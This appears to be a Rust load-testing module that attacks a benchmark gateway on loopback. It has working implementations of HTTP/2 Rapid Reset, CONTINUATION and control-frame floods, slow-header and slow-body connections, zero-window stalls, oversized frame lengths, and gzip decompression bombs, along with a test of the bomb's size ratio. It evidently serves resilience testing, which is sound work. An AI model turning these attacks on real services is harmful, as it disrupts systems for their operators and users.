//! Those who mean harm, each in a process of its own.
use std::collections::BTreeMap;
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use clap::{Args, ValueEnum};
use flate2::{Compress, Compression, FlushCompress};
use tokio::io::AsyncWriteExt;
use tokio::time::{Instant, sleep, sleep_until};

use super::load::{Line, Outcome, Protocol, eager, framed};
use super::service::LIST;
use super::tally::Tally;
use super::wire::{self, Wire, frame};

/// Connections of the slow and the silent.
const MANY: usize = 1_000;
/// A door takes 256 from one address; from so many they all get in.
const ADDRESSES: usize = 5;
const STREAMS: u64 = 100_000;
/// For those that are not sent within the time, on a busy machine.
const EXTRA: Duration = Duration::from_secs(20);
/// What a bomb unpacks to.
const BLOCK_BYTES: usize = 1 << 20;
const BLOCKS: usize = 256;

/// What they do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(super) enum Harm {
    RapidReset,
    Continuation,
    Control,
    Silent,
    SlowHeads,
    SlowBodies,
    Unread,
    HugeLengths,
    Bombs,
    JsonBombs,
}

impl Harm {
    pub(super) const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Control,
        Self::Silent,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::Unread,
        Self::HugeLengths,
        Self::Bombs,
        Self::JsonBombs,
    ];

    pub(super) fn told(self) -> &'static str {
        match self {
            Self::RapidReset => "100,000 streams reset",
            Self::Continuation => "heads without an end",
            Self::Control => "PING and SETTINGS flood",
            Self::Silent => "1,000 silent connections",
            Self::SlowHeads => "1,000 heads at 1 byte/s",
            Self::SlowBodies => "1,000 bodies at 1 byte/s",
            Self::Unread => "400 answers never read",
            Self::HugeLengths => "frames of 4 GiB",
            Self::Bombs => "gzip bombs in gRPC",
            Self::JsonBombs => "gzip bombs in JSON",
        }
    }
}

/// Does harm to a gateway of the bench.
#[derive(Debug, Args)]
pub struct Attack {
    /// What to do.
    #[arg(value_enum)]
    harm: Harm,
    /// To whom.
    to: SocketAddr,
    /// For so many seconds.
    seconds: u64,
}

/// Attacks, then prints what became of it.
pub(super) async fn run(attack: Attack) -> anyhow::Result<()> {
    let (harm, to) = (attack.harm, attack.to);
    let until = Instant::now() + Duration::from_secs(attack.seconds);
    let became = match harm {
        Harm::RapidReset => rapid_reset(to, until).await.to_string(),
        Harm::Continuation => continuation(to, until).await.to_string(),
        Harm::Control => control(to, until).await.to_string(),
        Harm::Silent => held(open(harm, to).await, None, until).await,
        Harm::SlowHeads => held(open(harm, to).await, Some(slow_head()), until).await,
        Harm::SlowBodies => slow_bodies(to, until).await.to_string(),
        Harm::Unread => unread(to, until).await.to_string(),
        Harm::HugeLengths => {
            let huge = [&[0, 0xff, 0xff, 0xff, 0xff][..], &[0; 1024]].concat();
            let bad = Line::new(to, LIST, Protocol::Grpc)?;
            insist(harm, bad.with(huge.into(), "te", "trailers")?, until).await?
        }
        Harm::Bombs => {
            let mut bomb = framed(&gzip(0)?).to_vec();
            bomb[0] = 1;
            let bad = Line::new(to, LIST, Protocol::Grpc)?;
            insist(harm, bad.with(bomb.into(), "grpc-encoding", "gzip")?, until).await?
        }
        Harm::JsonBombs => {
            let bad = Line::new(to, LIST, Protocol::Json)?;
            let bomb = gzip(b' ')?.into();
            insist(harm, bad.with(bomb, "content-encoding", "gzip")?, until).await?
        }
    };
    std::io::stdout().write_all(became.as_bytes())?;
    Ok(())
}

/// Every attack comes from addresses of its own: loopback has sixteen million.
fn source(harm: Harm, number: usize) -> IpAddr {
    let last = u8::try_from(number % ADDRESSES + 1).unwrap_or(1);
    Ipv4Addr::new(127, 1, harm as u8, last).into()
}

/// Calls that are taken back as soon as they are made, whole, so that they get as far as they can.
async fn rapid_reset(to: SocketAddr, until: Instant) -> Tally {
    let head = wire::head(LIST);
    let mut tally = Tally::default();
    let goes_on = |sent| {
        let now = Instant::now();
        now < until || sent < STREAMS && now < until + EXTRA
    };
    while goes_on(tally.sent) {
        let Ok(mut wire) = Wire::open(to, source(Harm::RapidReset, 0)).await else {
            continue;
        };
        for first in (1_u32..).step_by(100) {
            let streams = (first..first + 100).step_by(2);
            let batch = streams.flat_map(|s| {
                let call = frame(wire::HEADERS, wire::END_HEADERS, s, &head);
                let body = frame(wire::DATA, wire::END_STREAM, s, &framed(b""));
                let reset = frame(wire::RESET, 0, s, &8_u32.to_be_bytes());
                [call, body, reset].concat()
            });
            let batch: Vec<_> = batch.collect();
            if !wire.send(&batch).await {
                break;
            }
            tally.sent += 50;
            if !goes_on(tally.sent) {
                break;
            }
        }
        tally.add(Tally::of(wire).await);
    }
    tally
}

/// A head that goes on and on.
async fn continuation(to: SocketAddr, until: Instant) -> Tally {
    let mut more = vec![0, 1, b'x', 100];
    more.extend([b'a'; 100]);
    let more = frame(wire::CONTINUATION, 0, 1, &more).repeat(100);
    let begin = frame(wire::HEADERS, 0, 1, &wire::head(LIST));
    insist_on_wires(Harm::Continuation, to, until, &begin, &more, 100).await
}

/// Frames that have to be answered each.
async fn control(to: SocketAddr, until: Instant) -> Tally {
    let ping = frame(wire::PING, 0, 0, &[0; 8]);
    let settings = frame(wire::SETTINGS, 0, 0, &[]);
    let both = [ping, settings].concat().repeat(100);
    insist_on_wires(Harm::Control, to, until, &[], &both, 200).await
}

/// Sends the beginning, then the same again and again; on a new connection when one is closed.
async fn insist_on_wires(
    harm: Harm,
    to: SocketAddr,
    until: Instant,
    begin: &[u8],
    again: &[u8],
    frames: u64,
) -> Tally {
    let mut tally = Tally::default();
    while Instant::now() < until {
        let Ok(mut wire) = Wire::open(to, source(harm, 0)).await else {
            continue;
        };
        let mut goes_on = wire.send(begin).await;
        while goes_on && Instant::now() < until {
            goes_on = wire.send(again).await;
            tally.sent += frames;
        }
        tally.add(Tally::of(wire).await);
    }
    tally
}

async fn open(harm: Harm, to: SocketAddr) -> Vec<tokio::net::TcpStream> {
    let mut streams = Vec::new();
    for number in 0..MANY {
        if let Ok(stream) = wire::connect(to, source(harm, number)).await {
            streams.push(stream);
        }
    }
    streams
}

fn slow_head() -> Vec<u8> {
    format!(
        "POST {LIST} HTTP/1.1\r\nhost: localhost\r\nx: {}",
        "a".repeat(1000)
    )
    .into_bytes()
}

/// Holds connections open, sending a byte a second if there is something to send.
async fn held(
    mut streams: Vec<tokio::net::TcpStream>,
    slow: Option<Vec<u8>>,
    until: Instant,
) -> String {
    let opened = streams.len();
    let mut at = 0;
    while Instant::now() < until {
        if let Some(byte) = slow.as_ref().and_then(|s| s.get(at)) {
            for stream in &mut streams {
                // Those that were closed are counted below.
                let _ = stream.write_all(&[*byte]).await;
            }
            at += 1;
        }
        sleep_until(until.min(Instant::now() + Duration::from_secs(1))).await;
    }
    let mut buffer = [0; 64];
    let closed = streams.iter().filter(|s| {
        let read = s.try_read(&mut buffer);
        !matches!(read, Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
    });
    format!("{opened} opened, {} closed by then", closed.count())
}

/// Calls whose message comes a byte a second.
async fn slow_bodies(to: SocketAddr, until: Instant) -> Tally {
    let head = frame(wire::HEADERS, wire::END_HEADERS, 1, &wire::head(LIST));
    let byte = frame(wire::DATA, 0, 1, &[0]);
    each_second(Harm::SlowBodies, MANY, to, until, &head, &byte).await
}

/// Calls whose answers nobody wants: there is no room for them on the connection, and none is made.
async fn unread(to: SocketAddr, until: Instant) -> Tally {
    let no_window = [0, 4, 0, 0, 0, 0];
    let mut calls = frame(wire::SETTINGS, 0, 0, &no_window);
    for stream in (1..200).step_by(2) {
        calls.extend(frame(
            wire::HEADERS,
            wire::END_HEADERS,
            stream,
            &wire::head(LIST),
        ));
        calls.extend(frame(wire::DATA, wire::END_STREAM, stream, &framed(b"")));
    }
    each_second(Harm::Unread, 4, to, until, &calls, &[]).await
}

async fn each_second(
    harm: Harm,
    count: usize,
    to: SocketAddr,
    until: Instant,
    begin: &[u8],
    again: &[u8],
) -> Tally {
    let (mut tally, mut wires) = (Tally::default(), Vec::new());
    for number in 0..count {
        if let Ok(mut wire) = Wire::open(to, source(harm, number)).await {
            tally.sent += u64::from(wire.send(begin).await);
            wires.push(wire);
        }
    }
    while Instant::now() < until {
        for wire in &mut wires {
            tally.sent += u64::from(!again.is_empty() && wire.send(again).await);
        }
        sleep(Duration::from_secs(1)).await;
    }
    for one in futures::future::join_all(wires.into_iter().map(Tally::of)).await {
        tally.add(one);
    }
    tally
}

/// Makes the same bad call again and again, and tells how it was answered.
async fn insist(harm: Harm, bad: Line, until: Instant) -> anyhow::Result<String> {
    let lines = [Arc::new(bad.from(source(harm, 0)))];
    let time = until.saturating_duration_since(Instant::now());
    let mut outcomes: BTreeMap<String, u64> = BTreeMap::new();
    for sample in eager(&lines, 32, time).await? {
        let told = match sample.outcome {
            Outcome::Said(code) => format!("{code:?}"),
            Outcome::Broken => "broken off".to_owned(),
        };
        *outcomes.entry(told).or_default() += 1;
    }
    let told: Vec<_> = outcomes.iter().map(|(o, n)| format!("{n} × {o}")).collect();
    Ok(told.join(", "))
}

/// A great many of the same byte, a thousandth in size: one packed block again and again. No checksum ends it; whoever
/// unpacks so far has lost already.
fn gzip(byte: u8) -> anyhow::Result<Vec<u8>> {
    let mut packed = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    let mut block = Vec::with_capacity(BLOCK_BYTES);
    Compress::new(Compression::default(), false).compress_vec(
        &vec![byte; BLOCK_BYTES],
        &mut block,
        FlushCompress::Full,
    )?;
    packed.extend(block.repeat(BLOCKS));
    Ok(packed)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn a_bomb_unpacks_to_a_thousand_times_its_size() {
        let bomb = gzip(b' ').expect("packed");
        assert!(bomb.len() < 300 * 1024, "{}", bomb.len());
        let blocks = 3 * BLOCK_BYTES;
        let mut unpacked = vec![0; blocks];
        let mut reader = flate2::read::GzDecoder::new(&bomb[..]);
        reader.read_exact(&mut unpacked).expect("whole blocks");
        assert!(unpacked.iter().all(|b| *b == b' '));
        assert!(bomb.len() * 900 < BLOCKS * BLOCK_BYTES);
    }
}
